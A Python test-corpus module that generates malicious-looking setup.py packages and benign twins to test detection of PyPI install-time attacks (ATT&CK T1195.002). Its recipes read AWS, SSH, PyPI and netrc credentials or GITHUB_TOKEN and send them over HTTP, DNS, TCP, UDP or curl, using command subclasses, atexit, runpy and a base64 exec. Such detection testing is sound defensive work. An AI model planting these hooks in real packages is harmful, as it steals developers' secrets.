"""T01: code in setup.py runs while an installer builds (MITRE ATT&CK T1195.002, T1059.006).

The oldest way in: a third of the malicious uploads to PyPI subclass an install command, and most
others act on the top level of setup.py (FACTS: what separates, per package). The twins do what
setup.py is for: setuptools-scm asks git, numpy and Cython ask the compiler.
"""

from __future__ import annotations

import base64

from models.phase import Phase
from tests.corpus.guard import acting
from tests.corpus.parts import SETUP, SETUPTOOLS
from tests.corpus.recipe import THE_ACT, Channel, Content, Encoding, Kind, Recipe
from tests.corpus.recipes import senders
from tests.corpus.recipes.senders import sending

READ = '_send(_wrap((HOME / ".aws/credentials").read_bytes()))'
ASK_GIT = """
try:
    subprocess.run(["git", "describe", "--tags"], capture_output=True, timeout=10)
except OSError:
    pass
"""
ASK_COMPILER = """
try:
    subprocess.run(["cc", "--version"], capture_output=True, timeout=10)
except OSError:
    pass
"""
READ_VERSION = 'pathlib.Path("PKG-INFO").read_text()'
COMMAND = """
from setuptools.command.{name} import {name}

class Command({name}):
    def run(self):
        super().run()
        if ACT:
            THE_ACT()
"""


def sdist(setup: str, **more: Content) -> dict[str, Content]:
    """An sdist around a setup.py."""
    return {"setup.py": setup, "THE_MODULE/__init__.py": '"""Nothing."""\n', **more}


def command(name: str, reenact: str, honest: str, head: str) -> str:
    """A setup.py with a subclass of one setuptools command."""
    body = acting(reenact, honest, COMMAND.format(name=name), head)
    cmdclass = f'    cmdclass={{"{name}": Command}},\n'
    return body + SETUP.replace("    packages", f"{cmdclass}    packages")


def encoded(act: str) -> str:
    """A setup.py that runs its code out of base64, as two of five such uploads do."""
    head = sending(senders.CURL, Encoding.PLAIN)
    code = acting(READ, ASK_GIT, head=head).replace(THE_ACT, act)
    text = base64.b64encode(code.encode()).decode()
    return f"import base64\nexec(base64.b64decode({text!r}))\n{SETUP}"


RECIPES = (
    Recipe(
        technique="T01",
        name="install-command-http",
        phase=Phase.INSTALL,
        channel=Channel.HTTP,
        encoding=Encoding.PLAIN,
        kind=Kind.SDIST,
        files=sdist(
            command("install", READ, ASK_GIT, sending(senders.HTTP, Encoding.PLAIN)),
            **{"pyproject.toml": SETUPTOOLS},
        ),
        twin_does="asks git for a version, as setuptools-scm does",
    ),
    Recipe(
        technique="T01",
        name="egg-info-command-tcp",
        phase=Phase.INSTALL,
        channel=Channel.TCP,
        encoding=Encoding.HEX,
        kind=Kind.SDIST,
        files=sdist(
            command("egg_info", READ, ASK_COMPILER, sending(senders.TCP, Encoding.HEX)),
            **{"pyproject.toml": SETUPTOOLS},
        ),
        twin_does="asks the compiler for its version, as numpy's build does",
    ),
    Recipe(
        technique="T01",
        name="build-py-command-dns",
        phase=Phase.INSTALL,
        channel=Channel.DNS,
        encoding=Encoding.LABELS,
        kind=Kind.SDIST,
        files=sdist(
            command(
                "build_py",
                '_send(_wrap(os.environ.get("GITHUB_TOKEN", "").encode()))',
                READ_VERSION,
                sending(senders.DNS, Encoding.LABELS),
            ),
            **{"pyproject.toml": SETUPTOOLS},
        ),
        twin_does="reads its own metadata",
    ),
    Recipe(
        technique="T01",
        name="top-level-https",
        phase=Phase.INSTALL,
        channel=Channel.HTTPS,
        encoding=Encoding.JSON,
        kind=Kind.SDIST,
        files=sdist(
            acting(
                '_send(_wrap((HOME / ".pypirc").read_bytes()))',
                ASK_COMPILER,
                head=sending(senders.HTTPS, Encoding.JSON),
            )
            + SETUP
        ),
        twin_does="asks the compiler for its version",
    ),
    Recipe(
        technique="T01",
        name="at-exit-udp",
        phase=Phase.INSTALL,
        channel=Channel.UDP,
        encoding=Encoding.BASE64,
        kind=Kind.SDIST,
        files=sdist(
            acting(
                '_send(_wrap((HOME / ".ssh/id_ed25519").read_bytes()))',
                READ_VERSION,
                "import atexit\nif ACT:\n    atexit.register(THE_ACT)\n",
                sending(senders.UDP, Encoding.BASE64),
            )
            + SETUP
        ),
        twin_does="reads its own metadata at exit",
    ),
    Recipe(
        technique="T01",
        name="encoded-curl",
        phase=Phase.INSTALL,
        channel=Channel.PROCESS,
        encoding=Encoding.BASE64,
        kind=Kind.SDIST,
        files=sdist(encoded("_reenact")),
        twin_files={"setup.py": encoded("_honest")},
        twin_does="asks git for a version, out of base64 too",
    ),
    Recipe(
        technique="T01",
        name="version-attribute-http",
        phase=Phase.INSTALL,
        channel=Channel.HTTP,
        encoding=Encoding.GZIP,
        kind=Kind.SDIST,
        files={
            "setup.py": SETUP.replace(
                'version="1.0"', 'version=__import__("runpy").run_path("version.py")["VERSION"]'
            ),
            "version.py": acting(
                '_send(_wrap((HOME / ".netrc").read_bytes()))',
                READ_VERSION,
                'if ACT:\n    THE_ACT()\nVERSION = "1.0"\n',
                sending(senders.HTTP, Encoding.GZIP),
            ),
            "THE_MODULE/__init__.py": '"""Nothing."""\n',
        },
        twin_does="reads its own metadata while its version is asked for",
    ),
)
